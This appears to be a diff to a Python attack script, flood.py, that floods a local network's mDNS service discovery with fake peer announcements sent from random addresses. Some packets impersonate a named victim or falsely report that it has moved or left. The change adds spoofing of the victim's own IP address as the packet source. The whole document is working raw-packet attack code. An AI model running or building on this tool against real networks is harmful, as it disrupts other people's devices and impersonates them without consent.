@@ -1,10 +1,10 @@
 #!/usr/bin/env python3
 """Announces peers that do not exist, each from an address of its own.
 
-  flood.py INTERFACE SERVICE RATE SECONDS [VICTIM-NAME VICTIM-ID]
+  flood.py INTERFACE SERVICE RATE SECONDS [VICTIM-NAME VICTIM-ID VICTIM-ADDRESS]
 
 Nine of ten packets announce another peer; the tenth says by turns that the victim is elsewhere, is somebody else, or
-leaves. To be called as root.
+leaves, a quarter of these from the victim's own address. To be called as root.
 """
 import base64
 import os
@@ -15,7 +15,7 @@ import sys
 import time
 
 interface, service, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
-victim = sys.argv[5:7]
+victim = sys.argv[5:8]
 
 
 def name(*labels):
@@ -53,12 +53,14 @@ def packet():
     instance = b"Eve (" + identifier[:8] + b")"
     if victim and random.random() < 0.1:
         kind = random.randrange(3)
+        source = socket.inet_aton(victim[2]) if random.random() < 0.25 else address
         instance, identifier = victim[0].encode(), victim[1].encode() if kind != 1 else identifier
         payload = response(instance, identifier, 4711, address, leaves=kind == 2)
     else:
+        source = address
         payload = response(instance, identifier, 4711, address)
     udp = struct.pack("!HHHH", 5353, 5353, 8 + len(payload), 0) + payload
-    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 255, 17, 0) + address + bytes([224, 0, 0, 251])
+    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 255, 17, 0) + source + bytes([224, 0, 0, 251])
     ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
     ethernet = bytes([0x01, 0x00, 0x5E, 0, 0, 0xFB, 0x02]) + os.urandom(5) + b"\x08\x00"
     return ethernet + ip + udp
